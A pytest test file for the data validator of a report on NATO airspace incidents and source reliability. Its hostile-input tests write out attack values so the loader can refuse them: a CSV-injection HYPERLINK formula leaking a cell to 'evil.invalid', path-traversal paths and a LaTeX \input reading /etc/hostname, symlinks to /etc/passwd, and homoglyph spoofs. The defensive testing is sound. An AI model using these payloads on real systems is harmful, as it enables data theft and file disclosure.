"""The data: the package is valid, every row is sourced, and bad input fails loudly.

Each bad-input case copies the real data to a temporary folder, breaks one thing, and
checks that loading fails with a message naming the file, the row and the column.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import frictionless
import pandas as pd
import pytest

from report.data.load import DataError, load_all, read_package, validate
from report.foundation.paths import ROOT, SITE_DIR  # noqa: E402

DATA = ROOT / "data"


# --- the real data -----------------------------------------------------------------------


def test_datapackage_is_valid_for_frictionless():
    report = frictionless.validate(str(DATA / "datapackage.json"))
    assert report.valid, report.flatten(["taskName", "rowNumber", "fieldName", "type", "note"])[:20]


def test_loader_accepts_the_real_data():
    tables = load_all()
    assert set(tables) == {r["name"] for r in read_package()["resources"]}


def test_every_csv_in_data_is_described_in_the_package():
    described = {r["path"] for r in read_package()["resources"]}
    assert {p.name for p in DATA.glob("*.csv")} == described


def test_every_source_is_cited_by_some_row():
    tables = load_all()
    cited = set()
    for name, frame in tables.items():
        if "source_ids" in frame:
            cited |= {s for cell in frame["source_ids"].dropna() for s in cell.split(";")}
        if "source_id" in frame and name != "sources":
            cited |= set(frame["source_id"].dropna())
    unused = set(tables["sources"]["source_id"]) - cited
    assert not unused, f"sources.csv lists sources no row cites: {sorted(unused)[:10]}"


def test_state_affiliated_media_only_document_their_own_state():
    """A state-affiliated source may back only a row about that state's own position."""
    tables = load_all()
    state_media = set(tables["sources"].query("source_class == 'state_affiliated'")["source_id"])
    allowed_columns = {"incidents": "russia_reaction", "perspectives": "actor", "article_claims": "evidence"}
    for name, frame in tables.items():
        if "source_ids" not in frame or name == "sources":
            continue
        for _, row in frame.iterrows():
            used = set(str(row["source_ids"]).split(";")) & state_media
            if used:
                column = allowed_columns.get(name)
                assert column and re.search(
                    r"Russia|Kremlin|Moscow|Belarus|TASS|RIA|Zakharova|Peskov", str(row[column])
                ), (
                    f"data/{name}.csv: {sorted(used)} (state-affiliated) backs a row that is not about that state's own position"
                )


def test_contested_counts_are_ranges_with_attribution():
    """Where incident_figures has several claimants, the incident row must span them."""
    tables = load_all()
    figures = tables["incident_figures"]
    assert (figures["value_min"] <= figures["value_max"]).all()
    # the loader enforces the span; here we check that the span is visible to readers
    incidents = tables["incidents"].set_index("incident_id")
    for (incident, measure), group in figures.groupby(["incident_id", "measure"]):
        widest = group["value_max"].max()
        if measure == "objects_entered" and pd.notna(widest) and widest > group["value_min"].min():
            high = incidents.loc[incident, "count_max"]
            assert high is pd.NA or high > incidents.loc[incident, "count_min"]


# --- bad input ---------------------------------------------------------------------------

# data_copy, a copy of data/ to break: tests/conftest.py


def rewrite(folder: Path, table: str, change) -> None:
    path = folder / f"{table}.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    change(rows)
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)


def set_cell(folder: Path, table: str, row: int, column: str, value: str) -> None:
    def change(rows):
        rows[row + 1][rows[0].index(column)] = value  # row 1 is the first data row

    rewrite(folder, table, change)


def first_row_where(folder: Path, table: str, column: str, predicate) -> int:
    with (folder / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
        for index, row in enumerate(csv.DictReader(handle)):
            if predicate(row[column]):
                return index
    pytest.skip(f"no row of {table}.csv fits this case")


def expect_error(folder: Path, *fragments: str) -> str:
    with pytest.raises(DataError) as caught:
        validate(folder)
    message = str(caught.value)
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in:\n{message}"
    return message


def test_missing_file(data_copy):
    (data_copy / "incidents.csv").unlink()
    expect_error(data_copy, "incidents.csv", "file not found")


def test_missing_datapackage(data_copy):
    (data_copy / "datapackage.json").unlink()
    expect_error(data_copy, "datapackage.json", "file not found")


def test_missing_column(data_copy):
    def drop_kind(rows):
        index = rows[0].index("kind")
        for row in rows:
            del row[index]

    rewrite(data_copy, "incidents", drop_kind)
    expect_error(data_copy, "incidents.csv", "header (line 1)", "column 'kind'", "missing")


# One bad cell: (table, data row from 0, column, value, what the message must say).
BAD_CELLS = {
    "impossible date": (
        "incidents",
        2,
        "date_start",
        "2025-09-31",
        ["row 3 (line 4)", "not a real calendar date"],
    ),
    "date in another format": ("us_statements", 0, "date", "23/09/2025", ["row 1 (line 2)", "YYYY-MM-DD"]),
    "date after the sources were checked": (
        "incidents",
        0,
        "date_start",
        "2099-01-01",
        # "after the date the sources were last checked", or "in the future" when that is today
        ["row 1 (line 2)", "'2099-01-01' is"],
    ),
    "number above the maximum": ("incidents", 0, "lat", "89.5", ["row 1 (line 2)", "above the maximum"]),
    "date below the minimum": (
        "sources",
        0,
        "date_published",
        "1900-01-01",
        ["row 1 (line 2)", "below the minimum 1949-04-04"],
    ),
    "unknown category": ("incidents", 1, "kind", "ufo", ["row 2 (line 3)", "'ufo' is not an allowed value"]),
    "id against the pattern": (
        "sources",
        1,
        "source_id",
        "Has Capitals",
        ["row 2 (line 3)", "does not match the pattern"],
    ),
    "empty required cell": ("incidents", 0, "source_ids", "", ["row 1 (line 2)", "empty but required"]),
    "missing source in a list": (
        "us_statements",
        0,
        "source_ids",
        "no-such-source-2025",
        ["row 1 (line 2)", "'no-such-source-2025' does not exist in sources.csv"],
    ),
    "missing incident": (
        "incident_figures",
        0,
        "incident_id",
        "2025-09-10-XX",
        ["row 1 (line 2)", "does not exist in incidents.csv"],
    ),
    "malformed address": ("sources", 0, "url", "htp:/example", ["row 1 (line 2)"]),
}


@pytest.mark.parametrize("case", BAD_CELLS, ids=list(BAD_CELLS))
def test_a_bad_cell_is_named_by_file_row_and_column(data_copy, case):
    table, row, column, value, fragments = BAD_CELLS[case]
    set_cell(data_copy, table, row, column, value)
    expect_error(data_copy, f"{table}.csv", f"column '{column}'", *fragments)


def test_duplicate_id_names_the_first_line(data_copy):
    def duplicate(rows):
        rows[5][0] = rows[2][0]

    rewrite(data_copy, "incidents", duplicate)
    expect_error(
        data_copy,
        "incidents.csv",
        "row 5 (line 6)",
        "column 'incident_id'",
        "duplicate id",
        "(first used on line 3)",
    )


def test_range_minimum_above_maximum(data_copy):
    row = first_row_where(data_copy, "costs", "cost_min_usd", lambda v: v != "")
    set_cell(data_copy, "costs", row, "cost_min_usd", "999999999")
    expect_error(data_copy, "costs.csv", f"row {row + 1}", "column 'cost_min_usd'", "exceeds maximum")


def test_incident_range_must_span_the_attributed_figures(data_copy):
    row = first_row_where(data_copy, "incidents", "incident_id", lambda v: v.startswith("2025-09-10-PL"))
    set_cell(data_copy, "incidents", row, "count_max", "999")
    expect_error(data_copy, "incidents.csv", "column 'count_min'", "span of the attributed figures")


def test_country_not_a_nato_member_at_the_time(data_copy):
    # Finland joined on 2023-04-04: an incident in Finland in 2022 is outside the scope.
    set_cell(data_copy, "incidents", 0, "country", "FI")
    set_cell(data_copy, "incidents", 0, "date_start", "2022-06-01")
    set_cell(data_copy, "incidents", 0, "date_end", "")
    expect_error(
        data_copy, "incidents.csv", "row 1", "column 'country'", "was not a NATO member on 2022-06-01"
    )


def test_country_that_never_joined(data_copy):
    set_cell(data_copy, "incidents", 0, "country", "MD")  # Moldova: not a member
    expect_error(
        data_copy, "incidents.csv", "row 1", "column 'country'", "'MD' does not exist in nato_members.csv"
    )


def test_ragged_row(data_copy):
    path = data_copy / "article4.csv"
    path.write_text(path.read_text(encoding="utf-8") + "a4-2030-01-01,too,few\n", encoding="utf-8")
    expect_error(data_copy, "article4.csv", "cells but the header has")


def test_bad_data_stops_the_build_and_keeps_the_last_good_site(data_copy):
    set_cell(data_copy, "incidents", 0, "kind", "ufo")
    site_index = SITE_DIR / "index.html"
    before = site_index.stat().st_mtime_ns if site_index.exists() else None
    result = subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "build_book.py"), "--html-only"],
        env={**os.environ, "REPORT_DATA_DIR": str(data_copy)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode != 0
    assert "incidents.csv, row 1 (line 2), column 'kind'" in result.stderr
    assert "nothing was built" in result.stderr
    after = site_index.stat().st_mtime_ns if site_index.exists() else None
    assert before == after


def test_bibliography_is_generated_from_the_sources():
    from report.words.bib import BIB, render_bib

    assert BIB.read_text(encoding="utf-8") == render_bib(), (
        "run `python -m report.words.bib` after editing sources.csv"
    )


# --- gaps found by the hostile-input review (issue 9) ------------------------------------


def test_end_date_before_start_date(data_copy):
    row = first_row_where(data_copy, "incidents", "date_end", lambda v: v != "")
    set_cell(data_copy, "incidents", row, "date_end", "2022-02-24")
    expect_error(data_copy, "incidents.csv", f"row {row + 1}", "column 'date_end'", "is before date_start")


def test_date_after_the_as_of_date(data_copy):
    """No row may be dated after the day the sources were last checked."""
    import datetime as dt

    # Move the as-of date back to the newest date in the data, then date one row a day later.
    frames = load_all(data_copy)
    newest = max(
        frame[column].max()
        for frame in frames.values()
        for column in frame
        if str(frame[column].dtype).startswith("datetime")
    ).date()
    package = json.loads((data_copy / "datapackage.json").read_text(encoding="utf-8"))
    package["x-as-of"] = newest.isoformat()
    (data_copy / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    validate(data_copy)  # still valid: nothing is later than the newest date
    set_cell(data_copy, "us_statements", 0, "date", (newest + dt.timedelta(days=1)).isoformat())
    expect_error(
        data_copy,
        "us_statements.csv",
        "row 1 (line 2)",
        "column 'date'",
        f"after the date the sources were last checked ({newest}",
    )


def test_schema_does_not_expire(data_copy, monkeypatch):
    """A correct row dated after the year the schema was written in stays valid: the upper
    bound of every date is the package's 'x-as-of' (when the sources were last checked), never
    a calendar date typed into a field's constraints (which once refused every 2027 row)."""
    package = json.loads((data_copy / "datapackage.json").read_text(encoding="utf-8"))
    for resource in package["resources"]:
        for field in resource["schema"]["fields"]:
            if field.get("type") == "date" or field["name"] == "year":
                assert "maximum" not in field.get("constraints", {}), (resource["name"], field["name"])
    package["x-as-of"] = "2027-03-01"
    (data_copy / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    set_cell(data_copy, "us_statements", 0, "date", "2027-02-27")

    import datetime as dt
    import types

    import report.data.load

    class March2027(dt.date):  # the validator's clock, moved past the year the schema was written
        @classmethod
        def today(cls):
            return dt.date(2027, 3, 2)

    monkeypatch.setattr(
        report.data.load,
        "dt",
        types.SimpleNamespace(date=March2027, datetime=dt.datetime, timedelta=dt.timedelta),
    )
    validate(data_copy)


def test_date_in_the_future(data_copy):
    import datetime as dt

    tomorrow = dt.date.today() + dt.timedelta(days=1)
    set_cell(data_copy, "us_statements", 0, "date", tomorrow.isoformat())
    message = expect_error(data_copy, "us_statements.csv", "row 1", "column 'date'")
    assert "is in the future" in message or "after the date the sources were last checked" in message


def test_article4_requester_that_is_not_a_member(data_copy):
    set_cell(data_copy, "article4", 0, "requesters", "TR;UA")
    expect_error(
        data_copy, "article4.csv", "row 1", "column 'requesters'", "'UA' does not exist in nato_members.csv"
    )


def test_article4_requester_before_it_joined(data_copy):
    row = first_row_where(data_copy, "article4", "consultation_id", lambda v: v.startswith("a4-2003"))
    set_cell(data_copy, "article4", row, "requesters", "TR;FI")
    expect_error(data_copy, "article4.csv", "column 'requesters'", "FI was not a NATO member on 2003")


def test_header_only_table(data_copy):
    path = data_copy / "glossary.csv"
    path.write_text(path.read_text(encoding="utf-8").splitlines()[0] + "\n", encoding="utf-8")
    expect_error(data_copy, "glossary.csv", "header (line 1)", "has a header but no rows")


@pytest.mark.parametrize("value", ["\u0665", "5_7", "1e3", "inf", " 5"])
def test_numbers_are_ascii_digits(data_copy, value):
    row = first_row_where(data_copy, "incidents", "count_min", lambda v: v != "")
    set_cell(data_copy, "incidents", row, "count_min", value)
    expect_error(data_copy, "incidents.csv", f"row {row + 1}", "column 'count_min'")


def test_number_with_underscore(data_copy):
    set_cell(data_copy, "incidents", 0, "lat", "5_7.83")
    expect_error(data_copy, "incidents.csv", "row 1 (line 2)", "column 'lat'", "is not a number")


def test_nul_byte(data_copy):
    path = data_copy / "costs.csv"
    lines = path.read_bytes().split(b"\n")
    lines[3] = lines[3].replace(b",", b",\x00", 1)
    path.write_bytes(b"\n".join(lines))
    expect_error(data_copy, "costs.csv", "line 4", "NUL byte")


@pytest.mark.parametrize("char", ["\u200b", "\u200d", "\u202e", "\ufeff"])
def test_invisible_characters(data_copy, char):
    set_cell(data_copy, "glossary", 0, "term", "Article\u00a04".replace("\u00a0", char))
    expect_error(data_copy, "glossary.csv", "row 1 (line 2)", "column 'term'", f"U+{ord(char):04X}")


def test_line_break_in_a_cell(data_copy):
    set_cell(
        data_copy, "glossary", 1, "definition", "One line.\n:::\n```{raw} latex\n\\input{/etc/hostname}\n```"
    )
    expect_error(data_copy, "glossary.csv", "row 2 (line 3)", "column 'definition'", "line break")


def test_row_numbers_after_a_multi_line_cell_are_real_lines(data_copy):
    set_cell(data_copy, "glossary", 0, "notes", "first\nsecond\nthird")
    set_cell(data_copy, "glossary", 2, "term", "")
    message = expect_error(data_copy, "glossary.csv")
    assert "row 1 (line 2), column 'notes'" in message
    assert "line 6), column 'term'" in message, message  # row 3 starts on line 6, after the 3-line cell


def test_undescribed_csv_is_refused(data_copy):
    (data_copy / "secrets.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    expect_error(data_copy, "secrets.csv", "not described in datapackage.json")


@pytest.mark.parametrize("path", ["../../../etc/hostname", "/etc/hostname", "sub/incidents.csv"])
def test_resource_path_stays_in_the_data_folder(data_copy, path):
    import json

    package = json.loads((data_copy / "datapackage.json").read_text(encoding="utf-8"))
    package["resources"][0]["path"] = path
    (data_copy / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    expect_error(data_copy, "datapackage.json", "'path'", "must be a file name in the data folder")


@pytest.mark.parametrize(
    "content, fragment",
    [
        ("[]", "top level"),
        (
            '{"x-as-of": "2026-01-01", "resources": [{"name": "sources", "path": "sources.csv"}]}',
            "needs a 'schema'",
        ),
        (b'{"resources": "\xff"}', "is not UTF-8"),
    ],
)
def test_malformed_datapackage_gives_a_message_not_a_traceback(data_copy, content, fragment):
    target = data_copy / "datapackage.json"
    target.write_bytes(content if isinstance(content, bytes) else content.encode())
    expect_error(data_copy, "datapackage.json", fragment)


def test_invalid_pattern_in_the_schema(data_copy):
    import json

    package = json.loads((data_copy / "datapackage.json").read_text(encoding="utf-8"))
    package["resources"][0]["schema"]["fields"][0]["constraints"]["pattern"] = "([a-z"
    (data_copy / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    expect_error(data_copy, "datapackage.json", "field 'source_id'", "not a valid regular expression")


def test_byte_order_mark_is_accepted_and_invisible(data_copy):
    path = data_copy / "costs.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    frames = load_all(data_copy)
    assert list(frames["costs"].columns)[0] == "cost_id"


def test_cr_cr_lf_line_endings_give_one_clear_message(data_copy):
    path = data_copy / "costs.csv"
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\r\r\n"))
    message = expect_error(data_copy, "costs.csv", "line 1", "carriage return")
    assert "row is blank" not in message


def test_one_bad_row_does_not_bury_the_message_under_follow_on_errors(data_copy):
    # An unmatched quote swallows the rest of the file into one cell.
    row = first_row_where(data_copy, "incidents", "incident_id", lambda v: v.startswith("2025-09-10-PL"))
    set_cell(data_copy, "incidents", row, "place", "x")
    path = data_copy / "incidents.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(",x,", ',"x,', 1), encoding="utf-8")
    message = expect_error(data_copy, "incidents.csv")
    problems = message.splitlines()[1:]
    assert "incidents.csv, row" in problems[0] and "cells but the header has" in problems[0], message
    # References into the broken table are summed up in one line, or not checked at all.
    follow_on = [p for p in problems if "incident_figures.csv" in p]
    assert len(follow_on) <= 1 and all("has errors of its own" in p for p in follow_on), message


# --- provenance and dating (issue 12) ----------------------------------------------------


def test_every_copy_names_its_original():
    """A source whose own record calls it a copy, reprint or syndication names the original."""
    sources = load_all()["sources"]
    copy_words = r"\b(?:copy of|reprint|relays? (?:the|a) |republish)"
    notes = sources["notes"].fillna("")
    says_copy = notes.str.contains(copy_words, case=False, regex=True) & ~notes.str.contains(
        "not named", case=False
    )
    unnamed = sources[says_copy & sources["copy_of"].isna()]
    assert unnamed.empty, f"copies that do not name their original: {list(unnamed['source_id'])[:10]}"
    has_original_details = sources[["original_title", "original_date", "original_url"]].notna().any(axis=1)
    assert sources.loc[has_original_details, "copy_of"].notna().all()


def test_membership_dates_never_rest_on_an_aggregator():
    tables = load_all()
    aggregators = set(tables["sources"].query("source_class == 'secondary_aggregator'")["source_id"])
    for _, row in tables["nato_members"].iterrows():
        assert set(row["source_ids"].split(";")).isdisjoint(aggregators), row["country"]


def test_records_of_events_and_statements_never_rest_on_a_think_tank_alone():
    """A think tank's, institute's or movement's own publication is the original record of its
    own view; an event, a figure, a measure or someone else's statement needs an official
    source, an agency or an outlet behind it."""
    from report.words.facts import OWN_VIEW_TABLES

    tables = load_all()
    own = set(tables["sources"].query("source_class == 'research_or_advocacy'")["source_id"])
    records = [
        "incidents",
        "incident_figures",
        "responses",
        "article4",
        "us_statements",
        "us_reactions",
        "sweden_statements",
        "sweden_actions",
        "nato_members",
    ]
    assert not OWN_VIEW_TABLES & set(records)
    for name in records:
        frame = tables[name]
        column = "source_ids" if "source_ids" in frame else "source_id"
        alone = frame[frame[column].map(lambda ids: set(ids.split(";")) <= own)]
        assert alone.empty, f"data/{name}.csv: rows resting on think tanks alone: {list(alone.iloc[:, 0])}"


def test_a_figure_read_via_an_outlet_cites_that_outlet():
    """'Engie spokesperson (via Reuters)' must rest on a page by Reuters or a copy of it: a
    claimant's 'via X' names the page read or the original it copies, never a third outlet."""
    tables = load_all()
    sources = tables["sources"].set_index("source_id")
    wrong = []
    for _, row in tables["incident_figures"].iterrows():
        via = re.search(r"\bvia ([^),;]+)", row["claimant"])
        if not via:
            continue
        source = sources.loc[row["source_id"]]
        page = " ".join(str(source[c]) for c in ("publisher", "copy_of", "title", "notes", "url")).lower()
        names = [
            w
            for w in re.split(r"[\s/]+", via.group(1).lower())
            if len(w) >= 2 and w not in {"the", "and", "citing"}
        ]
        if not any(re.search(rf"\b{re.escape(name)}\b", page) for name in names):
            wrong.append(f"{row['figure_id']}: '{row['claimant']}' but the page is {source['publisher']}")
    assert not wrong, wrong


def test_a_note_that_names_a_source_names_one_the_data_lists():
    """A note that points to a source (or a row) by its id ('publisher-yyyymmdd-words') points to
    a listed one: a fact resting on an unlisted page would have no source a reader can follow."""
    tables = load_all()
    listed = {
        str(key) for frame in tables.values() for key in frame.iloc[:, 0]
    }  # sources, and rows it may point to
    dangling = []
    for name, frame in tables.items():
        for column in [c for c in frame.columns if c in ("notes", "note")]:
            for key, text in zip(frame.iloc[:, 0], frame[column].fillna("")):
                for ref in re.findall(
                    r"\b[a-z0-9]+(?:-[a-z0-9]+)*-(?:\d{8}|\d{6}|undated)-[a-z0-9-]+\b", text
                ):
                    if ref not in listed:
                        dangling.append(f"{name}.csv {key}: {ref}")
    assert not dangling, dangling


def test_aggregator_share_is_within_the_target():
    """At most 10% of the evidence rows rest on copies, summaries and aggregators alone (issue 12)."""
    from report.words.facts import rows_on_aggregators_alone

    weak, total = rows_on_aggregators_alone()
    assert weak / total <= 0.10, f"{weak} of {total} rows rest on aggregators alone"


def test_every_data_text_is_in_a_script_the_pdfs_can_print():
    """The PDFs are set with Latin, Cyrillic and Greek fonts: a title in another script (a
    Korean ministry page's, say) would stop the LaTeX build. Such a title is translated, and
    the note says so."""
    import unicodedata

    printable = ("LATIN", "CYRILLIC", "GREEK", "DIGIT", "SPACE", "HYPHEN", "DASH", "QUOTATION", "APOSTROPHE")
    problems = []
    for name, frame in load_all().items():
        for column in frame.columns:
            for value in frame[column].dropna().astype(str):
                for ch in set(value):
                    if ord(ch) < 0x250 or unicodedata.category(ch)[0] in "PSZN":
                        continue
                    if not any(word in unicodedata.name(ch, "") for word in printable):
                        problems.append((name, column, ch, unicodedata.name(ch, "?")))
    assert not problems, problems[:10]


def test_source_addresses_carry_no_tracking_parameters():
    """Links lead readers to the page, not to a campaign counter: no utm_ parameters."""
    sources = load_all()["sources"]
    tracked = [u for column in ("url", "original_url") for u in sources[column].dropna() if "utm_" in u]
    assert not tracked, tracked


def test_swedish_quotations_are_short_and_printed_by_a_source_of_their_row():
    statements = load_all()["sweden_statements"]
    quoted = statements[statements["quote_sv"].notna()]
    assert len(quoted) >= 5
    for _, row in quoted.iterrows():
        assert len(row["quote_sv"].split()) < 15, row["statement_id"]
        assert row["quote_sv_source_id"] in row["source_ids"].split(";"), row["statement_id"]


# --- the source policy (issue 20): one hostile example per rule ------------------------------
# Rows are counted from 0 among the data rows (row 0 is line 2), as set_cell counts them.


def test_refused_host(data_copy):
    """A page on a site listed in refused_hosts.csv (here a subdomain of the Pravda network)."""
    set_cell(data_copy, "sources", 0, "url", "https://eu.news-pravda.com/world/2025/09/25/110641-amp.html")
    expect_error(
        data_copy,
        "sources.csv",
        "row 1 (line 2)",
        "column 'url'",
        "'eu.news-pravda.com' is a refused host",
        "Propaganda network",
    )


def test_bare_ip_host(data_copy):
    """A 'Reuters' story on a bare IP address is refused by rule, listed or not."""
    set_cell(data_copy, "sources", 1, "url", "http://3.127.128.221/2025/09/10/poland-downs-russian-drones")
    expect_error(
        data_copy, "sources.csv", "row 2 (line 3)", "column 'url'", "'3.127.128.221' is a bare IP address"
    )


def test_refused_hosts_need_a_reason(data_copy):
    set_cell(data_copy, "refused_hosts", 0, "reason", "")
    expect_error(data_copy, "refused_hosts.csv", "row 1 (line 2)", "column 'reason'", "empty but required")


def test_one_host_one_class(data_copy):
    """The same publisher's site classed as an established outlet in one row and an
    aggregator in another (as Devdiscourse once was)."""
    first = first_row_where(data_copy, "sources", "url", lambda url: "kyivindependent.com/" in url)
    with (data_copy / "sources.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    second = next(i for i, row in enumerate(rows) if i > first and "kyivindependent.com/" in row["url"])
    set_cell(data_copy, "sources", second, "source_class", "secondary_aggregator")
    expect_error(
        data_copy,
        "sources.csv",
        f"row {second + 1} (line {second + 2})",
        "column 'source_class'",
        "host 'kyivindependent.com'",
        f"on line {first + 2}",
        "one publisher host has one class",
    )


def test_state_media_must_be_listed_with_its_state(data_copy):
    """A source classed state-affiliated on a host state_media.csv does not name (the first
    source's site has no other page, so one host keeps one class)."""
    set_cell(data_copy, "sources", 0, "source_class", "state_affiliated")
    expect_error(
        data_copy, "sources.csv", "row 1 (line 2)", "column 'source_class'", "is not in state_media.csv"
    )


def test_state_media_only_for_its_own_state(data_copy):
    """TASS may back a row only where the row records Russia's own position: an incident whose
    Russian reaction is blanked, and a Polish measure citing TASS, are both refused."""
    incident = first_row_where(
        data_copy, "incidents", "source_ids", lambda ids: "tass-20251106-russian-embassy-belgium" in ids
    )
    set_cell(data_copy, "incidents", incident, "russia_reaction", "")
    response = first_row_where(data_copy, "responses", "actor", lambda actor: actor == "PL")
    with (data_copy / "responses.csv").open(encoding="utf-8", newline="") as handle:
        ids = list(csv.DictReader(handle))[response]["source_ids"]
    set_cell(data_copy, "responses", response, "source_ids", ids + ";tass-20250821-polish-protest-note")
    expect_error(
        data_copy,
        "incidents.csv",
        f"row {incident + 1} (line {incident + 2})",
        "column 'source_ids'",
        "'tass-20251106-russian-embassy-belgium' is state media of Russia",
        "fill 'russia_reaction'",
    )
    expect_error(
        data_copy,
        "responses.csv",
        f"row {response + 1} (line {response + 2})",
        "'tass-20250821-polish-protest-note' is state media of Russia",
    )


def test_state_media_may_speak_for_its_own_state():
    """The same TASS page backing a row whose actor is Russia is accepted (the rule is not a ban)."""
    from report.data.source_policy import _records_position

    row = pd.Series({"actor": "Russian embassy in Brussels", "russia_reaction": None})
    assert _records_position("responses", row, "RU", "Russia")
    assert not _records_position("responses", pd.Series({"actor": "PL"}), "RU", "Russia")


def test_standing_marks_each_class_and_names_the_original_of_a_copy():
    from report.data.source_policy import standing

    sources = load_all()["sources"].set_index("source_id", drop=False)
    marks = {standing(row) for _, row in sources.iterrows()}
    assert {"Official", "News outlet", "Research", "State media"} <= marks
    copy = sources[
        (sources["source_class"] == "secondary_aggregator") & sources["copy_of"].eq("Reuters")
    ].iloc[0]
    assert standing(copy) == "Copy of Reuters"


# --- hostile data the probe of issue 25 found accepted ----------------------------------


@pytest.mark.parametrize(
    "term",
    ["\u0410rticle 4", "Article 4\u3164", "ARTICLE 4", "Article\u00a04"],
    ids=["cyrillic-A", "hangul-filler", "upper-case", "no-break-space"],
)
def test_a_glossary_term_that_looks_like_another_is_refused(data_copy, term):
    """Issue 25, item 4: four entries that look like 'Article 4' were all accepted."""
    row = first_row_where(data_copy, "glossary", "term", lambda v: v == "Article 4")
    other = first_row_where(data_copy, "glossary", "term", lambda v: v == "Article 5")
    set_cell(data_copy, "glossary", other, "term", term)
    message = expect_error(data_copy, "glossary.csv", f"line {other + 2}", "column 'term'")
    assert f"line {row + 2}" in message and (
        "looks like 'Article 4'" in message or "invisible" in message or "mixes Cyrillic and Latin" in message
    ), message


def test_a_word_mixing_scripts_is_refused_anywhere(data_copy):
    set_cell(data_copy, "incidents", 0, "notes", "Poland invoked \u0410rticle 4")
    expect_error(
        data_copy,
        "incidents.csv",
        "row 1 (line 2)",
        "column 'notes'",
        "mixes Cyrillic and Latin",
        "U+0410 CYRILLIC CAPITAL LETTER A",
    )


def test_real_cyrillic_and_accented_latin_stay_accepted(data_copy):
    set_cell(
        data_copy,
        "incidents",
        0,
        "notes",
        "Минобороны России; Łódź, Malmö, Tallinn, Vilnius (Lietuvos kariuomenė)",
    )
    validate(data_copy)


@pytest.mark.parametrize(
    "text, code",
    [
        ("drones \U0001f6a8", "U+1F6A8"),
        ("\u0394 change", "U+0394"),
        ("\u5317\u7ea6 statement", "U+5317"),
        ("\u0646\u0627\u062a\u0648", "U+0646"),
    ],
    ids=["emoji", "greek", "chinese", "arabic"],
)
def test_a_character_the_pdfs_cannot_set_is_refused_by_name(data_copy, text, code):
    """Issue 25, item 5: the PDF failed late, pointing at the LaTeX log."""
    row = first_row_where(data_copy, "sources", "title", bool)
    set_cell(data_copy, "sources", row, "title", f"Title {text}")
    expect_error(data_copy, "sources.csv", f"line {row + 2}", "column 'title'", code, "the PDFs cannot set")


def test_the_pdf_characters_are_those_the_latex_encodings_declare():
    """data.PDF_CHARACTERS lists what T1, T2A and TS1 declare in the TeX Live the build uses."""
    from report.data.load import PDF_CHARACTERS

    found = subprocess.run(
        ["kpsewhich", "t1enc.dfu", "t2aenc.dfu", "ts1enc.dfu", "utf8.def"], capture_output=True, text=True
    )
    files = found.stdout.split() if found.returncode == 0 else []
    if len(files) != 4:
        pytest.skip("TeX Live is not installed here")
    declared = {
        chr(int(code, 16))
        for path in files
        for code in re.findall(r"DeclareUnicodeCharacter\{([0-9A-Fa-f]+)\}", Path(path).read_text("latin-1"))
    }
    extra = {ch for ch in PDF_CHARACTERS if ord(ch) > 0x7E} - declared
    assert not extra, sorted(f"U+{ord(ch):04X}" for ch in extra)


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("https://evil.invalid/?leak="&A1,"x")', "+1+2", "-2+3 km", "@SUM(A1)"]
)
def test_a_spreadsheet_formula_in_a_text_cell_is_refused(data_copy, cell):
    """Issue 25, item 6: a formula reached the published CSVs (CSV injection)."""
    set_cell(data_copy, "incidents", 0, "notes", cell)
    expect_error(
        data_copy, "incidents.csv", "row 1 (line 2)", "column 'notes'", f"begins with '{cell[0]}'", "formula"
    )


def test_a_negative_number_is_still_a_number(data_copy):
    """The formula rule is for text: a negative number in a text column stays allowed."""
    set_cell(data_copy, "incidents", 0, "notes", "-12.5")
    validate(data_copy)


@pytest.mark.parametrize(
    "change, fragments",
    [
        (
            lambda header: header.__setitem__(3, header[1]),
            ["header (line 1)", "appears twice", "columns 2 and 4"],
        ),
        (lambda header: header.append(""), ["header (line 1)", "has no name"]),
    ],
    ids=["duplicated", "empty"],
)
def test_a_duplicated_or_empty_column_name_is_named(data_copy, change, fragments):
    """Issue 25, item 7: the message was "column '': Extra Label:"."""

    def edit(rows):
        change(rows[0])
        for row in rows[1:]:
            row.extend([""] * (len(rows[0]) - len(row)))

    rewrite(data_copy, "incidents", edit)
    message = expect_error(data_copy, "incidents.csv", *fragments)
    assert "Extra Label" not in message


@pytest.mark.parametrize("target", ["/etc/passwd", "outside.csv"])
def test_a_symlink_in_the_data_folder_is_refused_and_not_read(data_copy, target):
    """Issue 25, item 8: a link to /etc/passwd printed its first line; a link to a CSV
    outside the repository was read and published."""
    outside = data_copy.parent / "outside.csv"
    shutil.copy(data_copy / "incidents.csv", outside)
    (data_copy / "incidents.csv").unlink()
    (data_copy / "incidents.csv").symlink_to(outside if target == "outside.csv" else target)
    message = expect_error(data_copy, "incidents.csv", "symbolic link", "nothing outside the repository")
    assert "root:" not in message


def test_a_symlinked_datapackage_is_refused(data_copy):
    outside = data_copy.parent / "datapackage.json"
    (data_copy / "datapackage.json").rename(outside)
    (data_copy / "datapackage.json").symlink_to(outside)
    expect_error(data_copy, "datapackage.json", "symbolic link")
